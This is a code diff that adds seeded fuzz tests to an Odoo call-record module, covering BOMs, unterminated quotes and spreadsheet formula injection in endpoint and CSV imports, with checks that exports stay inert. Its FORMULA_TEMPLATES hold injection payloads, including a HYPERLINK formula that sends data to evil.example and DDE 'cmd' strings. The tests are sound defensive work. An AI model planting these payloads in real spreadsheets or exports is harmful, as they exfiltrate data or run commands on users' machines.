@@ -21,12 +21,27 @@ from odoo.exceptions import UserError
 from odoo.tests import HttpCase, new_test_user, tagged
 from odoo.tests.common import TEST_CURSOR_COOKIE_NAME
 
+from ..tools.spreadsheet_safe import is_formula_like, spreadsheet_safe
+
 _logger = logging.getLogger(__name__)
 URL = "/order_retention/calls"
 SEED = 20260318
 GOOD, BAD, EITHER = "good", "bad", "either"
 FOREIGN_NUMBER = "+1 212 555 0199"
 FOREIGN_NAME = "Zeta Secret Holdings"
+BOM = b"\xef\xbb\xbf"
+# formula-like text (issue #21): what a spreadsheet would run, as a PBX or a CSV export could carry it
+FORMULA_TEMPLATES = (
+    '=HYPERLINK("http://evil.example/?%s","x")',
+    "=cmd|' /C calc'!A%s",
+    "@SUM(1+%s)",
+    "+%s+cmd|' /C calc'!A0",
+    "-%s+3",
+    "\t=1+%s",
+    "{=SUM(%s)}",
+    "  =1+%s",
+    "=1+%s",
+)
 
 
 class _ErrorCounter(logging.Handler):
@@ -637,3 +652,181 @@ class TestRetentionFuzz(HttpCase):
         errors = self._line_errors(result)
         for line, call_id in ((3, "ENC-LATIN"), (5, "ENC-BROKEN")):
             self.assertTrue(errors.get(line) or stored.get(call_id) == 1, "line %s neither stored nor reported" % line)
+
+    # ------------------------------------------------------------------
+    # byte order marks, unterminated quotes and formula-like text (issue #21)
+    # ------------------------------------------------------------------
+
+    def assertExportsInert(self, calls, label):
+        """The export of ``calls`` (every text field a user exports) holds no formula-like text: every such
+        value got its apostrophe, a plain international phone number excepted. Returns the cells checked."""
+        fields = ["name", "phone_number", "phone_e164", "external_id", "note", "user_id/login", "partner_id/name"]
+        rows = calls.sudo().export_data(fields)["datas"]
+        cells = [cell for row in rows for cell in row if isinstance(cell, str) and cell]
+        live = [cell for cell in cells if is_formula_like(cell) and spreadsheet_safe(cell) != cell]
+        self.assertFalse(live, "%s: formula-like cells exported as is: %r" % (label, live[:10]))
+        return len(cells)
+
+    def _formula(self, rng, n):
+        return rng.choice(FORMULA_TEMPLATES) % ("650%04d" % n)
+
+    def test_endpoint_bom_quote_formula_fuzz(self):
+        """Seeded batches, with or without a UTF-8 BOM, of good rows, rows whose call id or number is formula-like
+        text and rows whose values hold stray (unterminated) quotes: every answer 200 and JSON, every good row
+        stored once, bad rows reported, no ERROR logged; the stored calls export without a live formula."""
+        rng = random.Random(SEED + 21)
+        template = {
+            "direction": "out",
+            "start": (self.now - datetime.timedelta(hours=1)).isoformat() + "Z",
+            "duration": 42,
+        }
+        corpus = [(row, GOOD) for row in self._good_rows(rng, 60)]
+        for n in range(40):  # formula-like call ids: text like any other, stored
+            corpus.append((dict(template, number="+1 650 253 %04d" % n, call_id=self._formula(rng, n)), GOOD))
+        for n in range(40):  # formula-like numbers: stored (unmatched) or refused, never a crash
+            corpus.append((dict(template, number=self._formula(rng, n)), EITHER))
+        for n in range(30):  # stray quotes
+            quoted = rng.choice(['"+1 650 253 %04d', '+1 650 253 %04d"', '"+1 650", 253 %04d', "'+1 650 253 %04d"])
+            corpus.append((dict(template, number=quoted % n), EITHER))
+        for login in ("=1+1", "@SUM(1)", '"admin'):
+            corpus.append((dict(template, number="+1 650 253 0000", user_login=login), BAD))
+        rng.shuffle(corpus)
+        for n, (row, _expectation) in enumerate(corpus):
+            row.setdefault("call_id", "BQF-%04d" % n)
+        outcomes, crashes, boms = {}, [], 0
+        with self._count_errors() as logged:
+            for first in range(0, len(corpus), 20):
+                chunk = list(range(first, min(first + 20, len(corpus))))
+                body = json.dumps([corpus[i][0] for i in chunk]).encode()
+                if rng.random() < 0.6:
+                    body, boms = BOM + body, boms + 1
+                response = self._post(body)
+                answer = self._json(response)
+                if response.status_code == 200 and isinstance(answer, dict):
+                    self._record(outcomes, chunk, answer)
+                else:
+                    crashes.append((first, response.status_code, response.text[:200]))
+            # request level: a BOM with nothing or garbage after it is a 400 JSON answer, never a 500
+            request_level = {}
+            for label, body in (
+                ("BOM only", BOM),
+                ("two BOMs", BOM + BOM + b"[]"),
+                ("BOM + garbage", BOM + b"\xff\xfe[]"),
+                ("BOM + unterminated string", BOM + b'[{"call_id": "x]'),
+                (
+                    "BOM + object",
+                    BOM + json.dumps(dict(template, call_id="BQF-OBJ", number="+1 650 253 0000")).encode(),
+                ),
+            ):
+                response = self._post(body)
+                request_level[label] = (response.status_code, isinstance(self._json(response), dict))
+        self.env.invalidate_all()
+        problems = self._check(corpus, outcomes, self._stored_ids("pbx"), "endpoint BOM/quote/formula")
+        calls = self.env["retention.call"].sudo().search([("source", "=", "pbx"), ("company_id", "=", self.company.id)])
+        checked = self.assertExportsInert(calls, "endpoint")
+        _logger.info(
+            "endpoint BOM/quote/formula fuzz: %s rows in %s batches (%s with a BOM), %s stored, %s rejected, "
+            "%s crashes, %s ERROR log records, request level %s, %s exported cells checked",
+            len(corpus),
+            (len(corpus) + 19) // 20,
+            boms,
+            sum(1 for o, _r in outcomes.values() if o == "stored"),
+            sum(1 for o, _r in outcomes.values() if o == "error"),
+            len(crashes),
+            len(logged),
+            request_level,
+            checked,
+        )
+        self.assertFalse(crashes, crashes[:5])
+        self.assertGreater(boms, 0)
+        self.assertEqual(
+            request_level,
+            {
+                "BOM only": (400, True),
+                "two BOMs": (400, True),
+                "BOM + garbage": (400, True),
+                "BOM + unterminated string": (400, True),
+                "BOM + object": (200, True),
+            },
+        )
+        self.assertFalse(logged, [r.getMessage()[:200] for r in logged[:5]])
+        self.assertFalse(problems, "\n".join(problems[:30]))
+
+    def _add_line(self, lines, expectations, values, expectation, raw=None):
+        """Append a CSV line (``raw``, else ``values`` written as CSV) and what it must give."""
+        lines.append(raw if raw is not None else self._csv_line(values))
+        expectations[len(lines) + 1] = (values[0], expectation)  # line 1 is the header
+
+    def test_csv_bom_quote_formula_fuzz(self):
+        """Seeded CSV files, with or without a UTF-8 BOM, LF or CRLF, mixing good lines, lines with an
+        unterminated quote (anywhere in the line) and lines holding formula-like text: every unterminated line
+        is reported at its own line number, every good line is stored, nothing crashes or logs an ERROR; the
+        stored calls export without a live formula."""
+        rng = random.Random(SEED + 2121)
+        start = (self.now - datetime.timedelta(hours=3)).strftime("%Y-%m-%d %H:%M:%S")
+        header = ["call_id", "number", "direction", "start", "duration", "user_login"]
+        totals = {"files": 0, "bom": 0, GOOD: 0, BAD: 0, EITHER: 0, "stored": 0, "reported": 0}
+        problems = []
+        with self._count_errors() as logged:
+            for f in range(8):
+                lines, expectations = [], {}
+
+                for n in range(60):
+                    call_id = "CQ%d-%03d" % (f, n)
+                    number = "+1 650 253 %04d" % (1000 * f + n)
+                    good = [call_id, number, "out", start, str(20 + n), ""]
+                    kind = "good" if n < 8 else rng.choice(["good", "good", "formula_id", "formula_number", "open"])
+                    if kind == "good":
+                        self._add_line(lines, expectations, good, GOOD)
+                    elif kind == "formula_id":
+                        self._add_line(lines, expectations, [self._formula(rng, 100 * f + n)] + good[1:], GOOD)
+                    elif kind == "formula_number":
+                        self._add_line(
+                            lines, expectations, [call_id, self._formula(rng, 100 * f + n)] + good[2:], EITHER
+                        )
+                    else:  # an unterminated quote opened in one of the cells
+                        cells = list(good)
+                        at = rng.randrange(len(cells))
+                        cells[at] = '"' + cells[at]
+                        self._add_line(lines, expectations, cells, BAD, raw=",".join(cells))
+                text = (rng.choice(["\n", "\r\n"])).join([",".join(header)] + lines) + "\n"
+                data = text.encode("utf-8")
+                if rng.random() < 0.5:
+                    data = BOM + data
+                    totals["bom"] += 1
+                result, crash = self._import(data)
+                totals["files"] += 1
+                if crash:
+                    problems.append("file %s: %s" % (f, crash))
+                    continue
+                reported = self._line_errors(result)
+                stored = self._stored_ids("csv")
+                for line, (call_id, expectation) in expectations.items():
+                    totals[expectation] += 1
+                    reason = reported.get(line)
+                    totals["reported"] += reason is not None
+                    totals["stored"] += stored.get(call_id.strip(), 0) == 1
+                    if expectation == BAD and not reason:
+                        problems.append("file %s line %s: unterminated quote not reported at its line" % (f, line))
+                    elif expectation == BAD and "quote" not in reason:
+                        problems.append("file %s line %s: reason does not name the quote: %s" % (f, line, reason))
+                    elif expectation == GOOD and (reason or stored.get(call_id.strip(), 0) != 1):
+                        problems.append("file %s good line %s lost (%s): %r" % (f, line, reason, call_id))
+                    elif expectation == EITHER and not reason and stored.get(call_id.strip(), 0) != 1:
+                        problems.append("file %s line %s neither reported nor stored once" % (f, line))
+                unexpected = set(reported) - set(expectations)
+                if unexpected:
+                    problems.append("file %s: errors at lines that hold no call: %s" % (f, sorted(unexpected)))
+        calls = self.env["retention.call"].sudo().search([("source", "=", "csv"), ("external_id", "!=", False)])
+        checked = self.assertExportsInert(calls, "csv")
+        _logger.info(
+            "CSV BOM/quote/formula fuzz: %(files)s files (%(bom)s with a BOM), %(good)s good, %(bad)s unterminated, "
+            "%(either)s formula-like numbers; %(stored)s stored, %(reported)s reported; "
+            % totals
+            + "%s crashes or lost lines, %s ERROR log records, %s exported cells checked"
+            % (len(problems), len(logged), checked)
+        )
+        self.assertGreater(totals[BAD], 20)
+        self.assertGreater(totals["bom"], 0)
+        self.assertFalse(logged, [r.getMessage()[:200] for r in logged[:5]])
+        self.assertFalse(problems, "\n".join(problems[:30]))
